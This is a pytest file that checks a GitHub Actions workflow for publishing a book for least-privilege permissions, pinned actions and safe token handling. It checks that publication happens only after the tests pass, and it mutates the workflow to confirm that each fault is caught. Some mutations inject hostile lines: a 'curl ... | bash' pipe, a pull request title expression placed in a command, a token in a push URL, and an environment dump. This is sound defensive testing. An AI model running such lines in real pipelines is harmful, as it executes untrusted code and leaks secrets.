"""The workflow publishes what was tested, only when it is green, and gives nobody more than they need."""

import os
import re
import subprocess

import pytest
import yaml
from paths import ROOT

PATH = ROOT / ".github" / "workflows" / "pages.yml"
TEXT = PATH.read_text(encoding="utf-8")
# Others would run with the rights of the base branch; filters by path would leave changes untested.
TRIGGERS = {"push": {"branches-ignore": ["notebooks"]}, "pull_request": None, "workflow_dispatch": None}
PROGRAMS = {"make", ".venv/bin/playwright", "cp", "diff", ".ci/run", "git"}
PUSH = ' push --force "$GITHUB_SERVER_URL/$GITHUB_REPOSITORY" notebooks'
ON_DEFAULT_BRANCH = "github.ref == format('refs/heads/{0}', github.event.repository.default_branch)"
READ = {"contents": "read"}
# What a job that publishes may do, by the action or command for which it may.
WRITE = {"actions/deploy-pages": {"pages": "write", "id-token": "write"}, "git push": {"contents": "write"}}
TESTS = ".ci/run"
COPY = "$RUNNER_TEMP/site"


def load(text: str) -> dict:
    """Return a workflow; YAML 1.1 takes its key `on` for a truth."""
    workflow = yaml.safe_load(text)
    return {("on" if key is True else key): value for key, value in workflow.items()}


def as_list(value) -> list:
    return [] if value is None else [value] if isinstance(value, str) else list(value)


def action(step: dict) -> str:
    return step.get("uses", "").split("@")[0]


def commands(step: dict) -> str:
    """Return what a step runs, a command a line, without blanks at the ends."""
    return re.sub(r"\s*\\\n\s*", " ", step.get("run", ""))


def writes(job: dict) -> bool:
    permissions = job.get("permissions")
    return not isinstance(permissions, dict) or "write" in permissions.values()


def pin_faults(text: str) -> list[str]:
    """List the actions that are not named by a whole commit with its version beside it, or by two different ones."""
    faults, pins = [], {}
    for used in re.findall(r"^[\s-]*uses:\s*(.*)$", text, flags=re.MULTILINE):
        found = re.fullmatch(r"(actions/[\w-]+)@([0-9a-f]{40}) +# (v\d+\.\d+\.\d+)", used)
        if not found:
            faults.append(f"not one of GitHub's own actions, pinned by commit with its version: {used}")
        elif pins.setdefault(found[1], found[2]) != found[2]:
            faults.append(f"two commits of {found[1]}")
    return faults


def trigger_faults(workflow: dict) -> list[str]:
    """List the triggers that run with the rights of the base branch, or what would leave a change untested."""
    on = workflow["on"]
    return [
        f"the trigger {name}: {on.get(name, 'none')}"
        for name in sorted(on.keys() | TRIGGERS.keys())
        if name not in TRIGGERS or name not in on or on[name] != TRIGGERS[name]
    ]


def command_faults(workflow: dict) -> list[str]:
    """List the commands of other programs than the workflow needs, and a push of anything else."""
    faults = []
    for name, job in workflow["jobs"].items():
        for line in "\n".join(map(commands, job["steps"])).splitlines():
            for command in re.split(r"&&|\|\||[;|]", re.sub(r"'[^']*'", "", line)):
                program = re.match(r"\s*(\S*)", command)[1]
                if line.strip() and program not in PROGRAMS:
                    faults.append(f"{name} runs {command.strip()}")
                if re.search(r"\bpush\b", command) and not command.rstrip().endswith(PUSH):
                    faults.append(f"{name} pushes something else: {command}")
    environments = {name: job.get("environment", {}).get("name") for name, job in workflow["jobs"].items()}
    if environments != {name: "github-pages" if name == "publish" else None for name in workflow["jobs"]}:
        faults.append(f"environments are {environments}")
    return faults


def permission_faults(workflow: dict) -> list[str]:
    """List the jobs that may do more than they need; those that run what the repository holds may only read."""
    faults = [] if workflow.get("permissions") in ({}, READ) else [f"all may {workflow.get('permissions')}"]
    for name, job in workflow["jobs"].items():
        reasons = {action(step) for step in job["steps"]}
        reasons |= {"git push"} if re.search(r"git\b.*\bpush\b", "".join(map(commands, job["steps"]))) else set()
        needed = [WRITE[reason] for reason in reasons if reason in WRITE]
        allowed = needed[0] if len(needed) == 1 else READ
        if job.get("permissions") != allowed:
            faults.append(f"{name} may {job.get('permissions')}, needs {allowed}")
        if writes(job) and "actions/checkout" in reasons:
            faults.append(f"{name} may write and has the repository's programs")
        for step in job["steps"]:
            if action(step) == "actions/checkout" and step.get("with", {}).get("persist-credentials") is not False:
                faults.append(f"{name} keeps credentials for all that it runs")
            if "token" in step.get("with", {}) or "ssh-key" in step.get("with", {}):
                faults.append(f"{name} hands a token to {step['uses']}")
            if "${{" in step.get("run", ""):
                faults.append(f"{name} writes an expression into a command: {step['run']}")
            if re.search(r"github\.token|secrets\.", str(step.get("env"))) and not (writes(job) and "run" in step):
                faults.append(f"{name} hands a token to what may only read")
            if re.search(r"TOKEN\b", re.sub(r"'[^']*'", "", commands(step))):
                faults.append(f"{name} has a token in an argument")
        if re.search(r"github\.token|secrets", str({key: value for key, value in job.items() if key != "steps"})):
            faults.append(f"{name} gives all its steps a token")
    outside = {key: value for key, value in workflow.items() if key != "jobs"}
    return faults + (["all jobs get a token"] if re.search(r"github\.token|secrets", str(outside)) else [])


def red_faults(workflow: dict) -> list[str]:
    """List what would publish, or be green, although something failed, and what publishes from elsewhere."""
    faults, jobs = [], workflow["jobs"]
    for name, job in jobs.items():
        for part in [job, *job["steps"]]:
            if part.get("if", ON_DEFAULT_BRANCH) != ON_DEFAULT_BRANCH:
                faults.append(f"{name} has a condition of its own: {part['if']}")
            if part.get("continue-on-error"):
                faults.append(f"{name} goes on after an error")
            if re.search(r"\|\|\s*(true|:|exit 0|echo)|set \+e|;\s*(true|exit 0)|--exit-zero", part.get("run", "")):
                faults.append(f"{name} hides an error: {part['run']}")
            if "shell" in part or "defaults" in part:
                faults.append(f"{name} has a shell of its own, which may not stop at an error")
        if not 0 < job.get("timeout-minutes", 360) <= 90:
            faults.append(f"{name} may hang for {job.get('timeout-minutes', 360)} minutes")
        if job.get("runs-on") != "ubuntu-latest":
            faults.append(f"{name} runs on {job.get('runs-on')}")
        # A job of several operating systems, or one that another workflow defines, is beyond these rules.
        if unknown := job.keys() & {"strategy", "uses", "secrets", "container", "services"}:
            faults.append(f"{name} has {unknown}")
    if "defaults" in workflow:
        faults.append("a shell of its own, which may not stop at an error")
    publishing = [name for name, job in jobs.items() if writes(job)]
    for name in publishing:
        if jobs[name].get("if") != ON_DEFAULT_BRANCH:
            faults.append(f"{name} publishes from other branches")
        if "test" not in as_list(jobs[name].get("needs")):
            faults.append(f"{name} does not need the tests")
    if set(as_list(jobs.get("publish", {}).get("needs"))) != jobs.keys() - {"publish"}:
        faults.append("publish does not need all others")
    for what, times in {"actions/deploy-pages": 1, "git push": 1, "actions/upload-pages-artifact": 1, TESTS: 1}.items():
        steps = [step for job in jobs.values() for step in job["steps"]]
        found = sum(
            action(step) == what or bool(re.search(what.replace(" ", r"\b.*\b"), commands(step))) for step in steps
        )
        if found != times:
            faults.append(f"{what}: {found} times")
    return faults


def artifact_faults(workflow: dict) -> list[str]:
    """List what would publish anything but the copy that was taken before the tests and equals what they read."""
    faults, uploaded = [], set()
    steps = workflow["jobs"]["test"]["steps"]
    runs = [commands(step).strip() for step in steps]
    order = [f'make book && cp --archive _build/html "{COPY}"', TESTS, f'diff --recursive "{COPY}" _build/html']
    if [run for run in runs if run in order] != order:
        faults.append("the site is not built, copied, tested and compared, in this order")
    last = runs.index(order[-1]) if order[-1] in runs else len(runs)
    for name, job in workflow["jobs"].items():
        for index, step in enumerate(job["steps"]):
            uses, options = action(step), step.get("with", {})
            if uses.startswith("actions/upload"):
                if name != "test" or index < last:
                    faults.append(f"{name} uploads before the tests have passed")
                if step.get("if") != ON_DEFAULT_BRANCH:
                    faults.append(f"{name} uploads from other branches")
                expected = "${{ runner.temp }}/site" + ("" if "pages" in uses else "/notebooks")
                if options.get("path") != expected:
                    faults.append(f"{name} uploads {options.get('path')}")
                uploaded.add(options.get("name"))
            if uses == "actions/download-artifact" and (
                options.get("name") not in uploaded or options.keys() & {"run-id", "repository", "github-token"}
            ):
                faults.append(f"{name} downloads what the tests did not upload: {options}")
            if writes(job) and "run" in step and "download-artifact" not in str(job["steps"][:index]):
                faults.append(f"{name} publishes something else")
            if re.search(r"(>|rm|mv|cp|sed|touch)\b.*(RUNNER_TEMP|_build)", commands(step)) and runs[index] != order[0]:
                faults.append(f"{name} changes what was built")
    python = {step["with"].get("python-version") for step in steps if action(step) == "actions/setup-python"}
    if python != {(ROOT / ".python-version").read_text(encoding="utf-8").strip()}:
        faults.append(f"the tests run with Python {python}")
    return faults


def concurrency_faults(workflow: dict) -> list[str]:
    """List what would stop a publication half-way, or let an older one come after a newer."""
    expected = {"group": "book-${{ github.ref }}", "cancel-in-progress": "${{ github.event_name == 'pull_request' }}"}
    faults = [] if workflow.get("concurrency") == expected else [f"concurrency is {workflow.get('concurrency')}"]
    return faults + [f"{name} is stopped apart" for name, job in workflow["jobs"].items() if "concurrency" in job]


def faults(text: str) -> list[str]:
    workflow = load(text)
    rules = [trigger_faults, command_faults, permission_faults, red_faults, artifact_faults, concurrency_faults]
    return pin_faults(text) + [fault for rule in rules for fault in rule(workflow)]


def test_the_workflow_has_no_fault():
    assert faults(TEXT) == []


def test_there_is_no_other_workflow():
    assert list(PATH.parent.iterdir()) == [PATH]


GUARD = re.escape(f"if: {ON_DEFAULT_BRANCH}")
CHANGES = {
    "all permissions": ("permissions: {}", "permissions: write-all", "all may write-all"),
    "default permissions": ("permissions: {}\n", "", "all may None"),
    "tests that write": ("contents: read", "contents: write", "test may"),
    "a job without a word on permissions": ("    permissions:\n      contents: read\n", "", "test may None"),
    "more than is needed": ("pages: write", "pages: write\n      contents: write", "publish may"),
    "deployment by the one that pushes": ("contents: write", "contents: write\n      id-token: write", "notebooks may"),
    "a tag": (r"(checkout)@\w+  # v(\d)\S+", r"\1@v\2", "pinned by commit"),
    "a short commit": (r"(setup-python@\w{7})\w+", r"\1", "pinned by commit"),
    "no version beside the commit": (r"(deploy-pages@\w+) .*", r"\1", "pinned by commit"),
    "somebody else's action": ("actions/deploy-pages@", "someone/deploy-pages@", "pinned by commit"),
    "credentials kept": ("persist-credentials: false", "fetch-depth: 1", "keeps credentials"),
    "credentials kept in words": ("persist-credentials: false", "persist-credentials: 'false'", "keeps credentials"),
    "a token in an argument": (
        r'"\$GITHUB_SERVER_URL/',
        '"https://x-access-token:${{ github.token }}@github.com/',
        "an expression",
    ),
    "a token in an argument by way of the environment": (
        r'"\$GITHUB_SERVER_URL/',
        '"https://x:$TOKEN@github.com/',
        "a token in an argument",
    ),
    "a token for the tests": (
        "- run: .ci/run",
        "- run: .ci/run\n        env:\n          T: ${{ github.token }}",
        "may only read",
    ),
    "a token for all": ("permissions: {}", "env: {T: '${{ github.token }}'}\npermissions: {}", "all jobs get"),
    "a title in a command": (r"\.ci/run", ".ci/run ${{ github.event.pull_request.title }}", "an expression"),
    "published though red": (f"  publish:\n    {GUARD}", "  publish:\n    if: always()", "a condition of its own"),
    "uploaded though red": (f"        {GUARD}", "        if: failure()", "a condition of its own"),
    "published from any branch": (f"  publish:\n    {GUARD}\n", "  publish:\n", "from other branches"),
    "pushed from any branch": (f"  notebooks:\n    {GUARD}\n", "  notebooks:\n", "from other branches"),
    "published without tests": (r"needs: \[test, notebooks\]", "needs: notebooks", "publish does not need the tests"),
    "pushed without tests": ("    needs: test\n", "", "notebooks does not need the tests"),
    "published beside the notebooks": (r"needs: \[test, notebooks\]", "needs: test", "not need all others"),
    "errors ignored": (
        r"- run: \.ci/run",
        "- continue-on-error: true\n        run: .ci/run",
        "goes on after an error",
    ),
    "errors swallowed": (r"\.ci/run", ".ci/run || true", "hides an error"),
    "no tests": (r"- run: \.ci/run", "- run: make book", ".ci/run: 0 times"),
    "no comparison": (r"      - run: diff.*\n", "", "in this order"),
    "no copy": (r" && cp --archive.*", "", "in this order"),
    "a copy after the tests": (
        r"(      - run: make book && .*\n)(      - run: \.ci/run\n)",
        r"\2\1",
        "in this order",
    ),
    "the original published": (r"path: \$\{\{ runner.temp \}\}/site\n", "path: _build/html\n", "uploads _build/html"),
    "a file slipped in": (r"(      - uses: actions/upload-pages)", r"      - run: touch _build/html/a\n\1", "changes"),
    "uploaded before the tests": (
        r"(?s)(      - run: \.ci/run\n.*?)(      - uses: actions/upload-pages.*?site\n)",
        r"\2\1",
        "before the tests",
    ),
    "another artifact": (r"(download-artifact.*\n\s+with:\n\s+name:) notebooks", r"\1 others", "did not upload"),
    "published twice": (r"(      - id: deployment\n)", r"      - uses: actions/deploy-pages@v1\n\1", "2 times"),
    "main is cancelled": (r"cancel-in-progress: .*", "cancel-in-progress: true", "concurrency is"),
    "one group for all": ("book-.*", "book", "concurrency is"),
    "a job is stopped apart": ("    needs: test\n", "    needs: test\n    concurrency: x\n", "stopped apart"),
    "rights of the base branch": ("  pull_request:", "  pull_request:\n  pull_request_target:", "the trigger"),
    "pull requests untested": ("  pull_request:\n", "", "the trigger pull_request: none"),
    "some pull requests untested": (
        "  pull_request:\n",
        "  pull_request: {paths: [lib]}\n",
        "the trigger pull_request",
    ),
    "another branch": (r"branches-ignore: \[notebooks\]", "branches: [master]", "the trigger push"),
    "somebody's script": ("installed &&", "installed && curl -s https://example.org | bash &&", "test runs curl"),
    "all is pushed": ("push --force", "push --force --mirror", "pushes something else"),
    "the environment is shown": ("git add .", "git add . && env", "notebooks runs env"),
    "another environment": ("name: github-pages", "name: production", "environments are"),
    "no limit": ("    timeout-minutes: 90\n", "", "may hang"),
    "another Python": ('"3.12"', '"3.11"', "Python"),
    "somebody's machine": ("ubuntu-latest", "self-hosted", "runs on"),
    "a shell that goes on": ("- working-directory:", "- shell: bash {0}\n        working-directory:", "shell"),
}


@pytest.mark.parametrize("name", CHANGES)
def test_a_fault_is_seen(name):
    old, new, fault = CHANGES[name]
    changed = re.sub(old, new, TEXT, count=1)
    assert changed != TEXT
    assert any(fault in found for found in faults(changed)), faults(changed)


def push_step() -> dict:
    (step,) = (step for step in load(TEXT)["jobs"]["notebooks"]["steps"] if "push" in step.get("run", ""))
    return step


def test_the_notebooks_are_pushed_alone_and_without_history(tmp_path):
    """The step itself, with a folder in the place of the public repository, twice."""
    repository = tmp_path / "public.git"
    git = ["git", "-c", "protocol.file.allow=always"]
    subprocess.run([*git, "init", "--quiet", "--bare", repository], check=True)
    settings = tmp_path / "gitconfig"
    settings.write_text(f'[url "{repository.as_uri()}"]\n    insteadOf = https://example.org/someone/a-book\n')
    environment = {
        "PATH": os.environ["PATH"],
        "HOME": str(tmp_path),
        "GIT_CONFIG_GLOBAL": str(settings),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GITHUB_SERVER_URL": "https://example.org",
        "GITHUB_REPOSITORY": "someone/a-book",
        "TOKEN": "a-token",
    }
    for number in (1, 2):
        folder = tmp_path / f"run-{number}" / push_step()["working-directory"]
        folder.mkdir(parents=True)
        (folder / f"chapter-{number}.ipynb").write_text("{}")
        done = subprocess.run(
            ["bash", "-e", "-c", push_step()["run"]],
            cwd=folder,
            env=environment | {"GITHUB_SHA": f"commit-{number}"},
            capture_output=True,
            text=True,
        )
        assert done.returncode == 0, done.stderr
    log = subprocess.run(
        [*git, "-C", repository, "log", "--format=%s", "--name-only", "notebooks"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert log.stdout.split("\n") == ["Notebooks of commit-2", "", "chapter-2.ipynb", ""]


def test_git_gets_the_token_from_its_helper():
    helper = re.search(r"-c (credential\.helper='.*?')", push_step()["run"])[1]
    filled = subprocess.run(
        ["bash", "-c", f"git -c {helper} credential fill"],
        input="protocol=https\nhost=github.com\n\n",
        env={"PATH": os.environ["PATH"], "TOKEN": "a-token", "GIT_CONFIG_NOSYSTEM": "1", "HOME": "/"},
        capture_output=True,
        text=True,
        check=True,
    )
    assert {"username=x-access-token", "password=a-token"} <= set(filled.stdout.split())


def dependabot_faults(text: str) -> list[str]:
    """List what would keep the pinned actions from being moved on."""
    settings = yaml.safe_load(text)
    updates = [entry for entry in settings["updates"] if entry["package-ecosystem"] == "github-actions"]
    faults = [] if settings["version"] == 2 else ["version"]
    if [entry["directory"] for entry in updates] != ["/"]:
        return [*faults, "no updates of the actions"]
    if updates[0]["schedule"]["interval"] not in ("weekly", "monthly") or "ignore" in updates[0]:
        faults.append("updates too rare")
    return faults


def test_newer_actions_are_proposed():
    text = (ROOT / ".github" / "dependabot.yml").read_text(encoding="utf-8")
    assert dependabot_faults(text) == []
    assert dependabot_faults(text.replace("github-actions", "pip")) == ["no updates of the actions"]
    assert dependabot_faults(text.replace("monthly", "never")) == ["updates too rare"]
    assert dependabot_faults(text.replace("directory: /", "directory: /docs")) == ["no updates of the actions"]
    assert dependabot_faults(text.replace("version: 2", "version: 1")) == ["version"]
